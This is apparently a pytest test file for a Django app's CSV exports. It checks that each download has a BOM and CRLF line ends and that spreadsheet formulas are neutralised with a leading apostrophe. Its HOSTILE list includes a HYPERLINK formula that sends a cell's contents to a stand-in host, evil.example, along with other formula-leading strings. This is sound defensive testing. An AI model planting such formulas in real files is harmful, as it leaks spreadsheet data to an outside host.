"""Every CSV the application serves, found from the URL conf, is written the one way: a UTF-8 BOM,
CRLF line ends, and no cell a spreadsheet would evaluate, with hostile text in every place a
user or a model can put it (item, key, block title, source, answer, configuration label)."""

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse

from probe.csvfile import FORMULA_START, csv_cell, csv_text, csv_uncell
from probe.models import ExperimentItem, Response
from probe.services.banks import bank_import
from tests.scoring.factories import score_all

from .conftest import build
from .test_final_report import export_url, make_team

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "+1",
    "-1 with text",
    "\tTAB-led",
    "\rCR-led",
)
# The URL names that serve an export or a file, and which of them can serve a CSV.
CSV_DOWNLOADS = {
    "probe:bank_export",
    "scoring:export",
    "scoring:final_export",
    "scoring:times",
    "grading:export",  # checked in tests/grading/test_regrade_costs.py, with a grader's world
}
NO_CSV = {"api:bank_export"}  # the API's bank file: JSON or text only


def url_names(patterns, namespace=None, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from url_names(
                pattern.url_patterns,
                pattern.namespace or namespace,
                prefix + str(pattern.pattern),
            )
        else:
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield name, prefix + str(pattern.pattern)


def test_the_url_conf_has_no_download_this_file_does_not_check():
    found = {
        name
        for name, route in url_names(get_resolver().url_patterns)
        if re.search(r"export|download|csv|times|\.<str:fmt>", f"{name} {route}")
    }
    assert found == CSV_DOWNLOADS | NO_CSV


def assert_written_the_one_way(raw: bytes, where: str) -> list[list[str]]:
    """BOM, CRLF after every record (a line break inside a quoted cell stays as it was), and
    every text cell safe; returns the rows."""
    assert raw.startswith(b"\xef\xbb\xbf"), where
    text = raw.decode("utf-8")[1:]
    outside_quotes = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert outside_quotes.endswith("\r\n"), where
    assert "\n" not in outside_quotes.replace("\r\n", ""), where
    assert "\r" not in outside_quotes.replace("\r\n", ""), where
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) >= 2, where
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number (a negative gap) may start with a minus sign
    return rows


def cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.fixture
def hostile_bank(world):
    from probe import bankformat

    data = bankformat.BankData(
        name="Hostile bank",
        blocks=[
            bankformat.BlockData(
                code="A",
                title=HOSTILE[0],
                description=HOSTILE[1],
                items=[
                    bankformat.ItemData(
                        question=text,
                        ref=f"-{n}",
                        topic="+topic",
                        key=bankformat.KeyData(
                            answer=HOSTILE[(n + 1) % len(HOSTILE)],
                            flagged=True,
                            flag_note="@note",
                            sources=[HOSTILE[(n + 2) % len(HOSTILE)].strip()],
                        ),
                    )
                    for n, text in enumerate(HOSTILE[:4], start=1)
                ],
            )
        ],
    )
    return bank_import(team=world.team, user=world.users["editor"], data=data)


def test_the_bank_csv_download(client, world, hostile_bank):
    client.force_login(world.users["editor"])
    url = reverse("probe:bank_export", kwargs={"bank_pk": hostile_bank.pk})
    rows = assert_written_the_one_way(client.get(url, {"format": "csv"}).content, "bank")
    written = cells(rows)
    for text in HOSTILE[:4]:  # questions, keys, the block's title and description, sources
        assert "'" + text in written and text not in written
    assert {"'-1", "'+topic", "'@note"} <= written
    header = rows[0]
    block = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert {r["domain"] for r in block} == {"'" + HOSTILE[0]}
    assert {r["block_description"] for r in block} == {"'" + HOSTILE[1]}


def test_the_api_serves_no_csv_of_a_bank(world, hostile_bank):
    """The one export URL that is not above: a bank through the API, JSON or text only."""
    from api.models import ApiToken

    _row, token = ApiToken.issue(
        user=world.users["editor"], team=world.team, access="read", name="export token"
    )
    client = Client(headers={"Authorization": f"Bearer {token}"})
    url = f"/api/banks/{hostile_bank.pk}/export"
    assert client.get(url, {"format": "text"}).status_code == 200
    refused = client.get(url, {"format": "csv"})
    assert refused.status_code == 422 and b"\xef\xbb\xbf" not in refused.content


def test_the_scorers_exports(client, world):
    built = build(world, {("=Twelve", 1): "C" * 6 + "W" * 4}, name="Hostile experiment")
    scorer = world.users["scorer"]
    assignment = score_all(built.experiment, scorer)
    hostile_everywhere(built.experiment)
    client.force_login(scorer)
    for what in ("responses", "figures"):
        url = reverse(
            "scoring:export",
            kwargs={"assignment_token": assignment.token, "what": what, "fmt": "csv"},
        )
        rows = assert_written_the_one_way(client.get(url).getvalue(), what)
        if what == "responses":
            assert {"'" + text for text in HOSTILE} <= cells(rows)
        assert "'=Twelve" in cells(rows)


def test_the_final_report_exports(client, world):
    team = make_team(world)
    hostile_everywhere(team.experiment)
    client.force_login(world.users["owner"])
    for what in ("responses", "figures", "moves"):
        response = client.get(export_url(team.experiment, what, "csv"))
        assert response.status_code == 200, what
        rows = assert_written_the_one_way(response.getvalue(), what)
        if what == "responses":
            assert {"'" + text for text in HOSTILE} <= cells(rows)


def hostile_everywhere(experiment):
    """Answers, questions, keys and block titles a spreadsheet would evaluate."""
    items = list(ExperimentItem.objects.filter(experiment=experiment).order_by("position"))
    for n, item in enumerate(items):
        item.question = HOSTILE[n % len(HOSTILE)]
        item.key_answer = HOSTILE[(n + 1) % len(HOSTILE)]
        item.block_title = HOSTILE[(n + 2) % len(HOSTILE)]
        item.save(update_fields=["question", "key_answer", "block_title"])
    for n, response in enumerate(
        Response.objects.filter(run__experiment=experiment).order_by("run", "item__position")
    ):
        response.answer = HOSTILE[n % len(HOSTILE)]
        response.save(update_fields=["answer"])


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "'=quoted", "''+twice", "'plain", "plain", "", "'", "-", "=", "'\t"],
)
def test_a_neutralised_cell_reads_back_as_it_was(text):
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert csv_uncell(cell) == text


def test_numbers_keep_their_sign_and_text_does_not():
    body = csv_text(
        [{"gap": -2.5, "n": -3, "label": "-3", "flag": True}], ["gap", "n", "label", "flag"]
    )
    assert body == "\ufeffgap,n,label,flag\r\n-2.5,-3,'-3,true\r\n"
